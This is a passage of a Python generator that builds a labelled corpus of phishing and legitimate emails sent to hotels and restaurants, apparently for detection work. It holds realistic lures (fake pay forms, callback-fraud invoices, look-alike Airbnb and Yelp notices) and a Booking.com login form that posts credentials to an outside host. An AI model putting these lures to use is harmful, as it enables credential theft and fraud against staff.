        assemble(top, hops, own, tail, gmail_alt(seed, plain)),
        "BEC opener impersonating the inn owner from a Gmail account: 'are you at the front desk, I need a quick favor' (gift-card scam first step), no link.")


def a_forms_staff_schedule() -> None:
    seed = "a43"
    when = T(2025, 2, 26, 13, 30, 5, 0)
    rcpt = "housekeeping@theharbourinn.co.uk"
    frm = "noreply@forms.office.com"
    link = "https://forms.office.com/Pages/ResponsePage.aspx?id=" + alnum(seed + "f", 60) + "&r=" + alnum(seed, 8)
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, mailfrom="noreply@forms.office.com",
                                     host="mail-db3eur04on2043.outbound.protection.outlook.com", ip="40.107.6.43", d="microsoft.com",
                                     dk=[("pass", "microsoft.com", "selector2")], dmarc=("pass", "reject"), ctry="IE")
    inner = ('<p style="font-size:18px;">Harbour Inn HR has invited you to fill out a form:</p>\n'
             '<p style="font-size:20px;font-weight:bold;">March 2025 Staff Rota &amp; Pay Adjustment Acknowledgement</p>\n'
             '<p>All staff must confirm their details by Friday. Sign in with your work account to view your updated hourly rate.</p>\n'
             + button(link, "Fill out form", "#03787c"))
    html = generic_tpl("Microsoft Forms", "#03787c", inner, "Never give out your password. Microsoft Forms is not responsible for content created by users.")
    plain = f"Harbour Inn HR has invited you to fill out a form: March 2025 Staff Rota & Pay Adjustment Acknowledgement\n{link}\n"
    own = sigs + stdhead(frm=addr("Microsoft Forms", frm), to=rcpt, subject="Please fill out the form: March 2025 Staff Rota & Pay Adjustment",
                         when=when, msgid=f"<{h(seed+'m',32)}@forms.office.com>")
    add("phishing", "phish", "staff-pay-adjustment-microsoft-forms",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Microsoft Forms invitation (microsoft.com DKIM passes) created by an attacker as 'Harbour Inn HR' pay-adjustment form that asks staff for their work-account password.")


def a_canva_share() -> None:
    seed = "a44"
    when = T(2025, 10, 2, 15, 11, 40, 2)
    rcpt = "info@agroturismo-sonvell.es"
    frm = "no-reply@canva.com"
    link = "https://www.canva.com/design/DAG" + alnum(seed, 8) + "/" + alnum(seed + "v", 22) + "/view?utm_content=DAG&utm_campaign=designshare&utm_medium=link&utm_source=sharebutton"
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm, mailfrom="bounces@engage.canva.com",
                                     host="a48-112.smtp-out.amazonses.com", ip="54.240.48.112", d="canva.com",
                                     dk=[("pass", "canva.com", "mail"), ("pass", "amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")],
                                     dmarc=("pass", "quarantine"))
    inner = ('<p style="font-size:18px;"><b>Reservas Grupo Viajes Mediterráneo</b> shared a design with you</p>'.replace("á", "&aacute;") +
             '\n<p style="background:#f1f1f5;padding:12px;border-radius:8px;">&ldquo;Listado de huéspedes y pago del grupo octubre &ndash; revisar y confirmar&rdquo;</p>\n'.replace("é", "&eacute;")
             + button(link, "Open design", "#8b3dff"))
    html = generic_tpl("Canva", "#ffffff", inner, "Canva Pty Ltd, 110 Kippax Street, Surry Hills NSW 2010, Australia", fg="#8b3dff")
    plain = f"Reservas Grupo Viajes Mediterráneo shared a design with you: Listado de huéspedes y pago del grupo octubre\nOpen design: {link}\n"
    own = sigs + stdhead(frm=addr("Canva", frm), to=rcpt, subject="Reservas Grupo Viajes Mediterráneo shared “Listado de huéspedes” with you",
                         when=when, msgid=f"<0102{h(seed+'m',16)}-{h(seed+'n',8)}-{h(seed+'o',4)}-{h(seed+'p',4)}-{h(seed+'q',4)}-{h(seed+'r',12)}-000000@eu-west-1.amazonses.com>")
    add("phishing", "phish", "canva-design-share-guest-list-es",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Canva share notification (canva.com/SES DKIM pass) for a 'group guest list and payment' design whose button leads to a credential-harvesting page (platform abuse).")


def a_paypal_invoice_callback() -> None:
    seed = "a45"
    when = T(2024, 8, 29, 4, 18, 2, -7)
    rcpt = "hosts.pinecreekcabins@gmail.com"
    frm = "service@paypal.com"
    link = "https://www.paypal.com/invoice/p/#INV2-" + alnum(seed, 4, True) + "-" + alnum(seed + "2", 4, True) + "-" + alnum(seed + "3", 4, True)
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm, mailfrom="service@paypal.com",
                                     host="mx0.slc.paypal.com", ip="173.0.84.225", d="paypal.com", dk=[("pass", "paypal.com", "pp-dkim1")],
                                     dmarc=("pass", "reject"))
    hops = [f"Received: from ccg01mail02.paypalcorp.com (unknown [10.247.3.22])\n\tby mx0.slc.paypal.com (Postfix) with ESMTP id {h(seed,10).upper()}\n\tfor <{rcpt}>; {fmt(before(when,2))}"]
    inner = ('<p style="font-size:20px;">Booking Partner Services sent you an invoice for $499.99 USD</p>\n'
             '<p><b>Note from seller:</b> Your Booking.com listing annual partner fee has been charged. If you did not authorize this charge, '
             'call our billing support immediately at +1 (808) 555-0193 to cancel and receive a refund.</p>\n'
             + button(link, "View and Pay Invoice", "#0070e0") + '\n<p>Invoice number: 0087</p>')
    html = generic_tpl("PayPal", "#ffffff", inner, "PayPal is located at 2211 North First Street, San Jose, CA 95131.", fg="#003087")
    plain = ("Booking Partner Services sent you an invoice for $499.99 USD\n\nNote from seller: Your Booking.com listing annual partner fee has been charged. "
             "If you did not authorize this charge, call our billing support immediately at +1 (808) 555-0193.\n\n" + f"View and Pay Invoice: {link}\n")
    own = sigs + stdhead(frm=addr("service@paypal.com", frm), to=rcpt, subject="Invoice from Booking Partner Services (0087)", when=when,
                         msgid=f"<{h(seed+'m',16)}@mx0.slc.paypal.com>", extra=["X-PP-REQUESTED-TIME: " + str(int(when.timestamp()) * 1000),
                                                                               "PP-Correlation-Id: " + h(seed + "cid", 13), "X-Email-Type-Id: PPX000607"])
    add("phishing", "phish", "paypal-invoice-booking-fee-callback",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine PayPal invoice (paypal.com passes everything) from a scam merchant 'Booking Partner Services' whose note pushes the cabin host to call a fake billing number (callback fraud).")


def a_notion_reservations() -> None:
    seed = "a46"
    when = T(2025, 7, 3, 12, 8, 15, 2)
    rcpt = "office@vienna-citytours.at"
    frm = "anna@danube-incoming-travel.at"
    link = "https://danube-incoming.notion.site/Group-reservations-July-2025-" + h(seed, 32)
    top, hops, sigs, tail = envelope("m365", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, ctry="AT", lang="de")
    plain = ("Hallo Markus,\n\nwie telefonisch besprochen, die Liste mit den Gruppenreservierungen für Juli und die offenen Zahlungen "
             f"liegen in unserem Notion-Bereich:\n{link}\n\nBitte mit dem Firmenkonto anmelden, dann siehst du die Details.\n\nLG Anna\n")
    own = sigs + stdhead(frm=addr("Anna Steiner", frm), to=rcpt, subject="Gruppenreservierungen Juli - Liste", when=when, msgid=outlook_msgid(seed),
                         extra=ms_extra(seed, "Gruppenreservierungen Juli - Liste", "de-AT"))
    add("phishing", "phish", "incoming-agency-notion-page-de",
        assemble(top, hops, own, tail, o365_alt(seed, plain)),
        "German note from a compromised incoming-travel-agency M365 mailbox (passes all checks) to a tour operator, linking to a notion.site page whose button leads to a Microsoft login phish.")


def a_laundry_qr_invoice() -> None:
    seed = "a47"
    when = T(2025, 11, 18, 8, 49, 33, 0)
    rcpt = "accounts@thecastlehotel-edinburgh.co.uk"
    frm = "billing@cleanlinehospitalitylaundry.co.uk"
    qurl = "https://cleanline-billing.co/pay/INV-77120?ref=" + h(seed, 10)
    qr = files.qr_png(qurl)
    from PIL import Image
    import io
    im = Image.open(io.BytesIO(qr)).convert("L")
    w, hgt = im.size
    import zlib
    raw = b"".join(b"" + bytes(im.crop((0, y, w, y + 1)).tobytes()) for y in range(hgt))
    stream = f"BT /F1 14 Tf 56 780 Td (CLEANLINE HOSPITALITY LAUNDRY - INVOICE INV-77120) Tj ET\nBT /F1 11 Tf 56 750 Td (Amount due: GBP 2,846.30 - overdue) Tj ET\n" \
             f"BT /F1 11 Tf 56 730 Td (Scan the QR code with your phone to pay securely and avoid service suspension.) Tj ET\nq 200 0 0 200 56 500 cm /Im1 Do Q\n".encode()
    objs = files.image_page(stream, zlib.compress(raw), w, hgt, "FlateDecode")
    objs.append(b"<< /Title (Invoice INV-77120) /Producer (Microsoft: Print To PDF) >>")
    pdf = files.pdf_file(objs, len(objs))
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, host="mail.cleanlinehospitalitylaundry.co.uk",
                                     ip="141.98.10.77", ctry="LT")
    hops = [postfix_hop(seed, when, "mail.cleanlinehospitalitylaundry.co.uk", rcpt)]
    plain = "Please find attached overdue invoice INV-77120. Scan the code on the invoice to pay.\n\nAccounts\n"
    body = Multi("mixed", f"=_{h(seed,28)}", [text(plain), attachment("application/pdf", "INV-77120.pdf", pdf)])
    own = sigs + stdhead(frm=addr("Cleanline Accounts", frm), to=rcpt, subject="Overdue invoice INV-77120", when=when,
                         msgid=f"<{h(seed+'m',24)}@cleanlinehospitalitylaundry.co.uk>")
    add("phishing", "phish", "laundry-overdue-invoice-qr-pdf",
        assemble(top, hops, own, tail, body),
        "Overdue 'laundry service' invoice to a hotel with a PDF whose only payment route is a QR code (image) pointing to a card-harvesting page; body is one line.")


def a_booking_html_attachment_gr() -> None:
    seed = "a48"
    when = T(2024, 6, 3, 18, 25, 1, 3)
    rcpt = "santorinicaverooms@gmail.com"
    frm = "info@ktima-lefkes-paros.gr"
    page = html_page('<div style="font-family:Arial;max-width:400px;margin:40px auto;"><h2 style="color:#003580;">Booking.com</h2>'
                     '<p>Sign in to manage your property</p><form action="https://booking-extranet-auth.glitch.me/login" method="post">'
                     '<input name="username" placeholder="Login name" style="width:100%;padding:8px;"><br><br>'
                     '<input name="password" type="password" placeholder="Password" style="width:100%;padding:8px;"><br><br>'
                     '<button style="background:#0071c2;color:#fff;padding:10px;width:100%;border:0;">Next</button></form></div>', "Booking.com Account")
    top, hops, sigs, tail = envelope("cpanel-out", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm, host="gr-cp-107.hostinggr.net",
                                     ip="185.138.42.107", d="ktima-lefkes-paros.gr")
    hops = [exim_hop(seed, when, "gr-cp-107.hostinggr.net", "[41.216.188.45]", "41.216.188.45", frm, rcpt)]
    plain = ("Αγαπητέ συνεργάτη,\n\nΈχετε 2 νέα μηνύματα από επισκέπτες που δεν έχουν απαντηθεί. Ανοίξτε το συνημμένο αρχείο για "
             "να συνδεθείτε στο Extranet και να απαντήσετε.\n\nBooking.com\n")
    body = Multi("mixed", f"=_{h(seed,28)}", [text(plain), attachment("text/html", "Booking_Messages_2.html", page.encode())])
    own = sigs + stdhead(frm=addr("Booking.com Extranet", frm), to=rcpt, subject="Έχετε 2 αναπάντητα μηνύματα επισκεπτών", when=when,
                         msgid=f"<{h(seed+'m',32)}@ktima-lefkes-paros.gr>", extra=["X-Mailer: Roundcube Webmail/1.6.5"])
    add("phishing", "phish", "booking-unanswered-messages-html-gr",
        assemble(top, hops, own, tail, body),
        "Greek 'you have 2 unanswered guest messages' Booking.com lure from a compromised Paros guesthouse mailbox, with an HTML attachment login form posting to glitch.me.")


def a_yelp_report() -> None:
    seed = "a49"
    when = T(2024, 5, 7, 14, 2, 48, -7)
    rcpt = "eat@sunnysidediner-la.com"
    frm = "biz-support@yelp-business-notice.com"
    link = "https://bit.ly/yelp-biz-" + alnum(seed, 6)
    top, hops, sigs, tail = envelope("vps", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm, host="mail.yelp-business-notice.com", ip="45.61.137.201")
    hops = [postfix_hop(seed, when, "mail.yelp-business-notice.com", rcpt)]
    inner = ('<p style="font-size:18px;font-weight:bold;">Your business page has been reported</p>\n'
             '<p>Your Yelp page <b>Sunnyside Diner</b> received 3 reports for violating our Content Guidelines (incentivized reviews). '
             'A consumer alert will be displayed on your page unless you review the reports.</p>\n'
             + button(link, "Review reports", "#d32323") + "\n<p>Yelp for Business Support</p>")
    html = generic_tpl("yelp", "#d32323", inner, "Yelp Inc., 350 Mission Street, 10th Floor, San Francisco, CA 94105")
    plain = f"Your business page has been reported. Review reports: {link}\n"
    own = sigs + stdhead(frm=addr("Yelp for Business", frm), to=rcpt, subject="Consumer alert pending on your Yelp page", when=when,
                         msgid=f"<{h(seed+'m',24)}@yelp-business-notice.com>")
    add("phishing", "phish", "yelp-consumer-alert-bitly",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Yelp 'consumer alert pending, your page was reported' lure to a diner from a look-alike domain, bit.ly link to a Yelp for Business login clone.")


def a_airbnb_account_es() -> None:
    seed = "a50"
    when = T(2026, 1, 13, 19, 30, 22, 1)
    rcpt = "casarural.lasencinas@gmail.com"
    frm = "anfitriones@airbnb-seguridad-cuenta.com"
    link = "https://airbnb-anfitrion-es.netlify.app/verificar?ref=" + h(seed, 12)
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm=frm, mailfrom="bounce-" + h(seed, 8) + "@sender.airbnb-seguridad-cuenta.com",
                                     host="smtp-relay.brevo.com", ip="77.32.148.30", d="airbnb-seguridad-cuenta.com",
                                     dk=[("pass", "airbnb-seguridad-cuenta.com", "brevo1"), ("pass", "sendinblue.com", "mail")], dmarc=("pass", "none"))
    inner = ('<p style="font-size:22px;font-weight:bold;">Hemos bloqueado temporalmente tu cuenta</p>\n'
             '<p>Hola, Carmen:</p><p>Hemos detectado un inicio de sesi&oacute;n desde un dispositivo desconocido (Lagos, Nigeria). '
             'Por seguridad, tus anuncios se han ocultado y los pagos est&aacute;n retenidos hasta que confirmes tu identidad.</p>\n'
             + button(link, "Confirmar identidad", "#ff385c") + "\n<p>El equipo de Airbnb</p>")
    html = generic_tpl("airbnb", "#ffffff", inner, "Airbnb Ireland UC, 8 Hanover Quay, Dublin 2, Irlanda", fg="#ff385c")
    plain = f"Hemos bloqueado temporalmente tu cuenta. Confirmar identidad: {link}\nEl equipo de Airbnb\n"
    own = sigs + stdhead(frm=addr("Airbnb", frm), to=rcpt, subject="Tu cuenta de anfitrión ha sido bloqueada temporalmente", when=when,
                         msgid=f"<{h(seed+'m',40)}@smtp-relay.mailin.fr>", extra=["X-Mailer: Sendinblue", "X-sib-id: " + b64(seed + "sib", 64)])
    add("phishing", "phish", "airbnb-account-blocked-brevo-es",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Spanish Airbnb 'account temporarily blocked, payouts held' lure to a rural house sent via Brevo from a look-alike domain, link to netlify.app.")


for _fn in (a_domain_expiry, a_cpanel_quota, a_svg_voicemail, a_m365_password_expiry, a_pos_update_download, a_wifi_invoice_pdf,
            a_thefork_fr, a_opentable_locked, a_owner_giftcards, a_forms_staff_schedule, a_canva_share, a_paypal_invoice_callback,
            a_notion_reservations, a_laundry_qr_invoice, a_booking_html_attachment_gr, a_yelp_report, a_airbnb_account_es):
    _fn()


# ---------------------------------------------------------------- legitimate: platforms and processors

def booking_out(seed: str, when: datetime, rcpt: str, rk: str, mailfrom: str, hfrom: str, n: int, server: str = "", ctry: str = "NL"):
    ip = f"185.28.222.{n}"
    helo = f"mailout-ams4-{n}.booking.com"
    top, tail = inbound(rk, rcpt=rcpt, when=when, mailfrom=mailfrom, helo=helo, ip=ip, spf="pass", dkims=[("pass", "booking.com", "bk")],
                        dmarc=("pass", "reject"), hfrom=hfrom, seed=seed, server=server, rdns=helo, ctry=ctry)
    hops = [f"Received: from app-notify-{h(seed,5)} (unknown [10.196.{int(h(seed,2),16)}.{int(h(seed+'z',2),16)}])\n\tby {helo} (Postfix) with ESMTP id 4{alnum(seed,11)}\n\tfor <{rcpt}>; {fmt(before(when, 2))}"]
    return top, hops, tail


def l_booking_new_reservation() -> None:
    seed = "l01"
    when = T(2025, 3, 14, 10, 2, 51, 0)
    rcpt = "frontdesk@theharbourinn.co.uk"
    top, hops, tail = booking_out(seed, when, rcpt, "o365", "noreply@booking.com", "booking.com", 52)
    resurl = "https://admin.booking.com/hotel/hoteladmin/extranet_ng/manage/booking.html?res_id=4512098763&amp;hotel_id=7731452&amp;source=email_new_booking"
    inner = ('<p style="font-size:20px;font-weight:bold;margin:0 0 12px 0;">New booking!</p>\n'
             '<table cellpadding="4" style="font-size:14px;"><tr><td>Booking number:</td><td><b>4512098763</b></td></tr>'
             '<tr><td>Guest name:</td><td>Thomas Berger</td></tr><tr><td>Check-in:</td><td>Fri 28 Mar 2025</td></tr>'
             '<tr><td>Check-out:</td><td>Sun 30 Mar 2025</td></tr><tr><td>Room:</td><td>Double Room with Sea View</td></tr>'
             '<tr><td>Total price:</td><td>&pound; 298.00</td></tr><tr><td>Commission:</td><td>&pound; 44.70</td></tr></table>\n'
             f'{button(resurl, "View booking")}\n'
             '<p style="font-size:12px;color:#6b6b6b;">Guest details and credit card information are available in the extranet. We never ask you to confirm your password by email.</p>')
    html = booking_tpl(inner, '<a href="https://admin.booking.com/?source=email_footer" style="color:#006ce4;">Extranet</a> &middot; '
                       '<a href="https://partner.booking.com/en-gb/help?source=email_footer" style="color:#006ce4;">Partner Help</a><br>\n')
    plain = ("New booking!\n\nBooking number: 4512098763\nGuest name: Thomas Berger\nCheck-in: Fri 28 Mar 2025\nCheck-out: Sun 30 Mar 2025\n"
             "Room: Double Room with Sea View\nTotal price: GBP 298.00\n\nView booking: " + resurl.replace("&amp;", "&") + "\n")
    own = [dkim("booking.com", "bk", "from:to:subject:date:message-id:mime-version:content-type", seed, when),
           f"From: {addr('Booking.com', 'noreply@booking.com')}", f"To: {rcpt}",
           "Subject: Booking.com - New booking! (4512098763, Friday, 28 March 2025)", f"Date: {fmt(when)}",
           f"Message-ID: <nb.{h(seed+'m',24)}.4512098763@booking.com>", "Auto-Submitted: auto-generated"]
    add("clean", "legit", "booking-new-reservation",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Booking.com new-reservation notification from noreply@booking.com (booking.com SPF/DKIM/DMARC pass) linking only to admin.booking.com.")


def l_booking_relay_parking() -> None:
    seed = "l02"
    when = T(2025, 6, 2, 17, 33, 12, 1)
    rcpt = "casaolivia.bnb@gmail.com"
    relay = "6120983344.a17c55d0@guest.booking.com"
    top, hops, tail = booking_out(seed, when, rcpt, "gmail", "bounces+6120983344@guest.booking.com", "guest.booking.com", 44)
    msg = ("Hi! We arrive on Friday around 8pm by car. Is there parking near the B&amp;B, and is it free? "
           "Also, could we leave our luggage on Sunday after check-out until 3pm? Thanks a lot, Jan")
    inner = ('<p style="font-size:18px;font-weight:bold;">You have a new message from Jan de Vries</p>\n'
             '<p style="color:#6b6b6b;">Reservation: 6120 983 344 &middot; Casa Olivia B&amp;B &middot; 6 &ndash; 8 Jun 2025</p>\n'
             f'<div style="background:#f2f6fa;border-radius:8px;padding:16px;margin:16px 0;">{msg}</div>\n'
             + button("https://admin.booking.com/hotel/hoteladmin/extranet_ng/manage/messaging/inbox.html?hotel_id=10482231&amp;res_id=6120983344&amp;source=email", "Reply"))
    html = booking_tpl(inner)
    plain = "You have a new message from Jan de Vries\nReservation: 6120 983 344\n\n" + msg.replace("&amp;", "&") + "\n"
    own = [dkim("booking.com", "bk", "from:reply-to:to:subject:date:message-id:mime-version:content-type", seed, when),
           f"From: {addr('Jan de Vries via Booking.com', relay)}", f"Reply-To: {relay}", f"To: {rcpt}",
           "Subject: We received this message from Jan de Vries", f"Date: {fmt(when)}",
           f"Message-ID: <msg.{h(seed+'m',20)}.6120983344@booking.com>", "Auto-Submitted: auto-generated"]
    add("clean", "legit", "booking-relay-parking-question",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Booking.com guest-message relay: a guest asks about parking and luggage storage; no external links.")


def l_expedia_reservation() -> None:
    seed = "l03"
    when = T(2024, 7, 22, 14, 6, 39, -4)
    rcpt = "gm@palmettobayinn.com"
    frm = "noreply@expediapartnercentral.com"
    host, ip = ses_hop(seed, when)
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="o365", frm=frm, mailfrom=f"0100{h(seed,12)}@amazonses.com",
                                     host=host, ip=ip, d="expediapartnercentral.com",
                                     dk=[("pass", "expediapartnercentral.com", "epc2021"), ("pass", "amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug")],
                                     dmarc=("pass", "reject"), ctry="US")
    link = "https://apps.expediapartnercentral.com/lodging/reservations/reservationDetails.html?htid=58213307&amp;reservationIds=2318845519"
    inner = ('<p style="font-size:20px;font-weight:bold;color:#1f2b4d;">New reservation</p>\n'
             '<p>Palmetto Bay Inn (58213307)</p><table cellpadding="4" style="font-size:14px;"><tr><td>Reservation ID</td><td>2318845519</td></tr>'
             '<tr><td>Guest</td><td>Laura Kim</td></tr><tr><td>Dates</td><td>Aug 9 &ndash; Aug 12, 2024</td></tr><tr><td>Room</td><td>King Room, Pool View</td></tr>'
             '<tr><td>Payment</td><td>Expedia Collect (virtual card)</td></tr></table>\n' + button(link, "View reservation", "#1668e3"))
    html = generic_tpl("Expedia Group", "#1f2b4d", inner, "Expedia Group, 1111 Expedia Group Way W, Seattle, WA 98119. "
                       '<a href="https://www.expediapartnercentral.com/Account/Logon?emailsettings=1">Manage notifications</a>')
    plain = "New reservation\nReservation ID 2318845519, Laura Kim, Aug 9 - Aug 12, 2024\n" + link.replace("&amp;", "&") + "\n"
    own = sigs + stdhead(frm=addr("Expedia Partner Central", frm), to=rcpt, subject="New reservation 2318845519 - Palmetto Bay Inn",
                         when=when, msgid=f"<0100{h(seed+'m',16)}-{h(seed+'n',8)}-{h(seed+'o',4)}-{h(seed+'p',4)}-{h(seed+'q',4)}-{h(seed+'r',12)}-000000@email.amazonses.com>",
                         extra=[f"Feedback-ID: 1.us-east-1.{b64(seed+'fb',44)}=:AmazonSES", "X-SES-Outgoing: 2024.07.22-" + ip])
    add("clean", "legit", "expedia-new-reservation",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Expedia Partner Central reservation notification via Amazon SES (expediapartnercentral.com DKIM/DMARC pass) linking to apps.expediapartnercentral.com.")


def airbnb_env(seed, when, rcpt, rk="gmail"):
    n = int(h(seed, 2), 16) % 200 + 20
    return envelope("esp", seed=seed, when=when, rcpt=rcpt, rk=rk, frm="automated@airbnb.com",
                    mailfrom=f"bounces+{int(h(seed,6),16)}-{h(seed,4)}-{rcpt.replace('@','=')}@email.airbnb.com",
                    host=f"o{n%20+1}.email.airbnb.com", ip=f"167.89.{n%60+30}.{n}", d="email.airbnb.com",
                    dk=[("pass", "email.airbnb.com", "s20150428"), ("pass", "sendgrid.info", "smtpapi")], dmarc=("pass", "reject"))


def l_airbnb_payout() -> None:
    seed = "l04"
    when = T(2024, 7, 3, 11, 14, 2, 1)
    rcpt = "cottage.windermere@gmail.com"
    top, hops, sigs, tail = airbnb_env(seed, when, rcpt)
    inner = ('<p style="font-size:24px;font-weight:bold;">We sent a payout of &pound;842.60 GBP</p>\n'
             '<p>Hi Margaret,</p><p>We sent you a payout for your reservation HMZ4TQ82WK (Lakeside Cottage, 28 Jun &ndash; 2 Jul). '
             'It should arrive in your account ending in 4471 within 3&ndash;5 business days.</p>\n'
             + button("https://www.airbnb.co.uk/users/transaction_history?c=.pi80.cHVyY2hhc2U%3D&amp;euid=" + h(seed, 8), "View transaction history", "#222222"))
    html = generic_tpl("airbnb", "#ffffff", inner, "Airbnb Ireland UC, 8 Hanover Quay, Dublin 2, Ireland &middot; "
                       '<a href="https://www.airbnb.co.uk/account-settings/notifications">Email preferences</a>', fg="#ff385c")
    plain = "We sent a payout of GBP 842.60 for reservation HMZ4TQ82WK. It should arrive within 3-5 business days.\n"
    own = sigs + stdhead(frm=addr("Airbnb", "automated@airbnb.com"), to=rcpt, subject="We sent a payout of £842.60 GBP", when=when,
                         msgid=f"<{b64(seed+'m',22)}@geopod-ismtpd-5>", extra=["X-Entity-ID: " + b64(seed + "eid", 24)])
    add("clean", "legit", "airbnb-payout-sent",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Airbnb payout confirmation from automated@airbnb.com (email.airbnb.com via SendGrid, all checks pass) linking to airbnb.co.uk.")


def l_airbnb_review() -> None:
    seed = "l05"
    when = T(2025, 9, 12, 9, 40, 18, 2)
    rcpt = "info@casavacanzeilgelso.it"
    top, hops, sigs, tail = airbnb_env(seed, when, rcpt, "cpanel")
    inner = ('<p style="font-size:22px;font-weight:bold;">Hai ricevuto una nuova recensione da Claire</p>\n'
             '<p>&ldquo;Casa bellissima e pulitissima, Paola &egrave; stata gentilissima. Torneremo!&rdquo;</p>\n'
             + button("https://www.airbnb.it/users/reviews?euid=" + h(seed, 8), "Leggi la recensione", "#222222"))
    html = generic_tpl("airbnb", "#ffffff", inner, "Airbnb Ireland UC, 8 Hanover Quay, Dublin 2, Irlanda", fg="#ff385c")
    plain = "Hai ricevuto una nuova recensione da Claire: Casa bellissima e pulitissima. Leggi: https://www.airbnb.it/users/reviews\n"
    top, tail = inbound("cpanel", rcpt=rcpt, when=when, mailfrom=f"bounces+{int(h(seed,6),16)}@email.airbnb.com", helo="o3.email.airbnb.com",
                        ip="167.89.62.118", spf="pass", dkims=[("pass", "email.airbnb.com", "s20150428"), ("pass", "sendgrid.info", "smtpapi")],
                        dmarc=("pass", "reject"), hfrom="airbnb.com", seed=seed, server="lx23.tophost-srv.it")
    own = sigs + stdhead(frm=addr("Airbnb", "automated@airbnb.com"), to=rcpt, subject="Claire ti ha lasciato una recensione a 5 stelle",
                         when=when, msgid=f"<{b64(seed+'m',22)}@geopod-ismtpd-9>")
    add("clean", "legit", "airbnb-new-review-it",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Italian Airbnb 'new 5-star review' notification from automated@airbnb.com (passes everything).")


def l_stripe_payout() -> None:
    seed = "l06"
    when = T(2025, 11, 10, 6, 5, 0, 1)
    rcpt = "owner@villa-aurelia-sorrento.com"
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="o365", frm="notifications@stripe.com",
                                     mailfrom=f"bounces+{int(h(seed,7),16)}@mail.stripe.com", host="o1.ptr9514.stripe.com", ip="167.89.101.32",
                                     d="stripe.com", dk=[("pass", "stripe.com", "s1"), ("pass", "sendgrid.info", "smtpapi")], dmarc=("pass", "reject"),
                                     ctry="US")
    inner = ('<p style="font-size:22px;font-weight:bold;color:#0a2540;">Your payout of &euro;3,214.55 is on the way</p>\n'
             '<p>Villa Aurelia Sorrento&#39;s payout should arrive in your bank account ending in <b>0931</b> by Wed, 12 Nov 2025.</p>\n'
             + button("https://dashboard.stripe.com/payouts/po_1S" + alnum(seed, 22), "View payout", "#635bff"))
    html = generic_tpl("stripe", "#ffffff", inner, "Stripe, 354 Oyster Point Blvd, South San Francisco, CA 94080", fg="#635bff")
    plain = "Your payout of EUR 3,214.55 is on the way to your bank account ending in 0931.\n"
    own = sigs + stdhead(frm=addr("Stripe", "notifications@stripe.com"), to=rcpt, subject="Your €3,214.55 payout for Villa Aurelia Sorrento is on the way",
                         when=when, msgid=f"<{b64(seed+'m',22)}@geopod-ismtpd-21>")
    add("clean", "legit", "stripe-payout-on-the-way",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Stripe payout notification from notifications@stripe.com (stripe.com DKIM/DMARC pass) linking to dashboard.stripe.com.")


def l_square_weekly() -> None:
    seed = "l07"
    when = T(2024, 8, 19, 5, 12, 44, -7)
    rcpt = "tacoshackphx@gmail.com"
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm="noreply@messaging.squareup.com",
                                     mailfrom=f"bounce-{h(seed,10)}@messaging.squareup.com", host="mail-out-17.squareup.com", ip="74.122.190.17",
                                     d="messaging.squareup.com", dk=[("pass", "messaging.squareup.com", "s1")], dmarc=("pass", "reject"))
    inner = ('<p style="font-size:20px;font-weight:bold;">Weekly sales summary: Aug 12 &ndash; Aug 18</p>\n'
             '<table cellpadding="5" style="font-size:14px;"><tr><td>Gross sales</td><td>$9,412.75</td></tr><tr><td>Transactions</td><td>742</td></tr>'
             '<tr><td>Average sale</td><td>$12.68</td></tr><tr><td>Top item</td><td>Al pastor tacos (3)</td></tr></table>\n'
             + button("https://app.squareup.com/dashboard/sales/reports/sales-summary?utm_source=email&amp;utm_medium=weekly", "View full report", "#006aff"))
    html = generic_tpl("Square", "#000000", inner, 'Square, Inc., 1955 Broadway, Suite 600, Oakland, CA 94612 &middot; '
                       '<a href="https://app.squareup.com/dashboard/account/email-settings">Unsubscribe from weekly summaries</a>')
    plain = "Weekly sales summary Aug 12 - Aug 18: gross sales $9,412.75, 742 transactions.\n"
    own = sigs + stdhead(frm=addr("Square", "noreply@messaging.squareup.com"), to=rcpt, subject="Taco Shack: your weekly sales summary",
                         when=when, msgid=f"<{h(seed+'m',24)}@messaging.squareup.com>",
                         extra=["List-Unsubscribe: <https://app.squareup.com/email-preferences/unsubscribe?t=" + h(seed, 24) + ">",
                                "List-Unsubscribe-Post: List-Unsubscribe=One-Click"])
    add("bulk", "bulk", "square-weekly-sales-summary",
        assemble(top, hops, own, tail, alt(plain, html, seed)),
        "Genuine Square weekly sales-summary notification (messaging.squareup.com passes) with one-click unsubscribe.")


def l_gbp_performance() -> None:
    seed = "l08"
    when = T(2025, 2, 5, 20, 14, 33, -8)
    rcpt = "hello@sunsetgrillsd.com"
    top, hops, sigs, tail = envelope("esp", seed=seed, when=when, rcpt=rcpt, rk="gmail", frm="businessprofile-noreply@google.com",
                                     mailfrom="3" + alnum(seed, 30) + "@scoutcamp.bounces.google.com", host="mail-sor-f73.google.com", ip="209.85.220.73",
                                     d="google.com", dk=[("pass", "google.com", "20230601")], dmarc=("pass", "reject"))
